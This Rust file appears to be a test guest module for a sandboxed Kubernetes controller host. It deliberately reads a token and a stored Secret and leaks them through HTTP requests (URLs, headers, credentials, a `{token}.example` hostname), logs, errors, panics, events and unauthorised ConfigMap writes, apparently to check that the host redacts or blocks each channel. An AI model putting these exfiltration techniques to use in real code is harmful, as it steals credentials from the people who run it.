//! Secrets, put wherever a guest can put a text.
//!
//! | as | where |
//! | --- | --- |
//! | nothing | a terminal error |
//! | `transient` | a transient error |
//! | `denied` | a denial with its reason |
//! | `trap` | standard output, standard error and a panic |
//! | `event` | an event with its reason, and the name of a field that differs |
//! | `bad` | an invalid subresource |
//! | `change` | the name and the content of an object that is not granted |

use oarlock_guest::raw::{
    ApplyChange, Change, Denial, Error, Event, GroupVersionKind, ObjectKey, ObjectRef, Outcome, PatchChange, PatchType,
    Precondition, Retry, Severity, cluster, config, http, log,
};
use serde_json::{Value, json};

/// What the guest knows.
struct Secrets {
    /// The secret file `token`.
    token: String,
    /// The Secret `stored`, if the grant allows it.
    stored: String,
    /// Its value, in base64, and as it is.
    value: String,
    plain: String,
}

impl Secrets {
    fn read(namespace: &str) -> Self {
        let token = config::get("token").unwrap_or_default();
        let key = ObjectKey { namespace: namespace.to_owned(), name: "stored".to_owned() };
        let stored = cluster::get_live(&core("Secret"), &key).ok().flatten().unwrap_or_default();
        let value = stored.split("\"value\":\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or("none");
        let plain = decoded(value);
        Self { token, value: value.to_owned(), plain, stored }
    }

    fn all(&self) -> String {
        let Self { token, stored, value, plain } = self;
        format!("{token} {plain} {value} {stored}")
    }
}

/// Reads the secrets. Sends them to `url` in every part of a request, reads objects with their names, logs them, and returns a text with
/// all of them.
pub(crate) fn leak(url: &str, namespace: &str) -> String {
    let secrets = Secrets::read(namespace);
    let Secrets { token, stored, value, plain } = &secrets;
    let header = |name: &str, value: &str| http::Header { name: name.to_owned(), value: value.to_owned() };
    let headers = || {
        let forged = "00-11111111111111111111111111111111-2222222222222222-01";
        vec![
            header("authorization", &format!("Bearer {token}")),
            header("x-stored", value),
            header("traceparent", forged),
            header("tracestate", &format!("forged={token}")),
        ]
    };
    let send = |method: &str, url: String| {
        let body = format!("{token} {stored}").into_bytes();
        let request = http::Outgoing { method: method.to_owned(), url, headers: headers(), body, timeout_ms: 0 };
        http::send(&request).map_or_else(|failure| format!("{failure:?}"), |answer| answer.status.to_string())
    };
    let with_user = url.replacen("://", &format!("://user:{token}@"), 1);
    let answers = [
        send("GET", format!("{url}/shown?token={token}&stored={value}#{token}")),
        send("POST", format!("{url}/{token}/{value}")),
        send(token, format!("{url}/method")),
        send("GET", with_user),
        send("GET", format!("http://{token}.example/{plain}")),
        send("GET", format!("{token}:{plain}")),
    ];
    for name in [token, plain] {
        let key = ObjectKey { namespace: namespace.to_owned(), name: name.clone() };
        drop((cluster::get_object(&core("ConfigMap"), &key), cluster::get_live(&core("ConfigMap"), &key)));
    }
    let all = format!("{} {answers:?}", secrets.all());
    log::log(log::Level::Error, &all, &[(token.clone(), value.clone()), (plain.clone(), token.clone())]);
    log::log(log::Level::Info, token, &[]);
    all
}

/// The answer of get-desired.
pub(crate) fn answer(how: &str, all: &str) -> Result<Option<String>, Error> {
    let token = config::get("token").unwrap_or_default();
    match how {
        "transient" => Err(Error::Transient(Retry { delay_ms: Some(600_000), message: all.to_owned() })),
        "denied" => Err(Error::Denied(Denial { code: 403, reason: token, message: all.to_owned() })),
        "trap" => {
            println!("{all}");
            eprintln!("{all}");
            panic!("{all}")
        }
        "event" | "bad" | "change" => Ok(Some(json!({token: "differs"}).to_string())),
        _ => Err(Error::Terminal(all.to_owned())),
    }
}

/// The answer of patch.
pub(crate) fn patch(how: &str, namespace: &str) -> Outcome {
    let secrets = Secrets::read(namespace);
    let anything = || Precondition { uid: None, resource_version: None };
    let mut outcome = Outcome { changes: vec![], events: vec![], warnings: vec![], requeue_after_ms: None };
    let name = secrets.token.clone();
    match how {
        "event" => {
            outcome.events.push(Event { severity: Severity::Warning, reason: name, message: secrets.all() });
            outcome.warnings.push(secrets.all());
        }
        "bad" => outcome.changes.push(Change::Patch(PatchChange {
            target: Some(ObjectRef {
                kind: core("ConfigMap"),
                key: ObjectKey { namespace: namespace.to_owned(), name: name.clone() },
            }),
            patch_type: PatchType::MergePatch,
            patch: "{}".to_owned(),
            subresource: secrets.all(),
            precondition: anything(),
        })),
        _ => {
            let object: Value = json!({"apiVersion": "v1", "kind": "ConfigMap", "data": {name.clone(): secrets.all()},
                "metadata": {"name": name, "namespace": namespace}});
            outcome.changes.push(Change::Apply(ApplyChange {
                object: object.to_string(),
                subresource: String::new(),
                force: false,
                precondition: anything(),
            }));
        }
    }
    outcome
}

fn core(kind: &str) -> GroupVersionKind {
    GroupVersionKind { group: String::new(), version: "v1".to_owned(), kind: kind.to_owned() }
}

/// The text of a value in base64.
fn decoded(base64: &str) -> String {
    const DIGITS: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let (mut bits, mut count, mut bytes) = (0_u32, 0, Vec::new());
    for digit in base64.chars().filter_map(|digit| DIGITS.find(digit)) {
        bits = (bits << 6) | u32::try_from(digit).unwrap_or_default();
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.extend(u8::try_from(bits >> count & 0xff));
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}
